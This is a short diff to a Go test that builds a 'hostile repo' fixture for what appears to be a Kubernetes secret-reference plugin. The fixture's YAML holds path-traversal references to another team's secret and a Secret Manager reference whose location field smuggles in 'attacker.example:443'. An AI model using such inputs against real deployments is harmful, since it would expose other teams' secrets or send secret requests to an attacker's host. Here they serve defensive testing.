@@ -87,7 +87,7 @@ func newHostileRepo(t *testing.T) hostileRepo {
 		"outside/sub/templates/cm.yaml":       "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: sub}\ndata: {x: OUTSIDE-CANARY}\n",
 		// another team's secret through "..", inline and through the annotation.
 		"repo/apps/dotdot/app.yaml":    "apiVersion: v1\nkind: Secret\nmetadata: {name: x}\nstringData:\n  pw: <path:secret/data/team-a/../team-b/db#password>\n",
-		"repo/apps/gcploc/app.yaml": "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\ndata:\n  a: ref+gcpsm://projects/team-a-proj/locations/attacker.example:443/secrets/s#/k\n  b: <path:projects/team-a-proj/locations/" + strings.TrimPrefix(srv.URL, "http://") + "/secrets/s#k>\n",
+		"repo/apps/gcploc/app.yaml":    "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\ndata:\n  a: ref+gcpsm://projects/team-a-proj/locations/attacker.example:443/secrets/s#/k\n  b: <path:projects/team-a-proj/locations/" + strings.TrimPrefix(srv.URL, "http://") + "/secrets/s#k>\n",
 		"repo/apps/dotdotann/app.yaml": "apiVersion: v1\nkind: Secret\nmetadata:\n  name: x\n  annotations: {avp.kubernetes.io/path: secret/data/team-a/../team-b/db}\nstringData:\n  pw: <password>\n",
 		// a template that never ends and grows without bound.
 		"repo/apps/runaway/Chart.yaml":          "apiVersion: v2\nname: runaway\nversion: 0.1.0\n",
